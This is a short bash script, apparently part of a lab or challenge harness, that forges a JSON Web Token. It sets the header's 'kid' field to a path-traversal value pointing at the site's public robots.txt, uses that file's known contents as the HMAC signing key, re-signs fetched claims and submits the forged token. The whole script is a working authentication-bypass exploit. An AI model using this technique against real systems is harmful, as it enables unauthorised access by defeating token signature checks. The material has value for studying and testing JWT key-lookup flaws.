#!/usr/bin/env bash
. "$(dirname "$0")/tools.sh"

token="$(curl -s "$(at kid-path token)")"
header="$(printf '{"alg":"HS256","kid":"../public/robots.txt","typ":"JWT"}' | b64)"
input="$header.$(claims "$token")"
secret="$(printf 'User-agent: *\nDisallow: /admin\n' | hex)"
send kid-path "$input.$(hs256 "$input" "$secret")"
